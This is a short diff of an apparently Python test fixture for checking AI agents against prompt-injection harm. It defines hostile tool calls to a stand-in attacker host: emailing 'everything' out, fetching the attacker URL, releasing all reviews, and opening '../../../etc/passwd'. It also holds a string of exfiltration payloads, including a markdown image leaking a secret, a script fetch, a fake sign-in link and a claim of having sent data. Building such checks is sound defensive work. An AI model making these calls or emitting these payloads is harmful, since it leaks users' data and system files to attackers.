@@ -13,12 +13,15 @@ from typing import Any
 
 ELSEWHERE = "https://attacker.example"
 
+
 _CALLS = (
     ("send_email", {"to": "someone@attacker.example", "body": "everything"}),
     ("http_get", {"url": f"{ELSEWHERE}/"}),
     ("release", {"review": "all"}),
     ("open_document", {"passage": 1, "around": "../../../etc/passwd"}),
 )
+
+
 _HARM = (
     f"![picture]({ELSEWHERE}/p.png?q=secret) <img src={ELSEWHERE}/i> <script>fetch('{ELSEWHERE}')</script> "
     f"[sign in]({ELSEWHERE}/login) {ELSEWHERE}/plain I have sent this to someone@attacker.example, and I approved and "
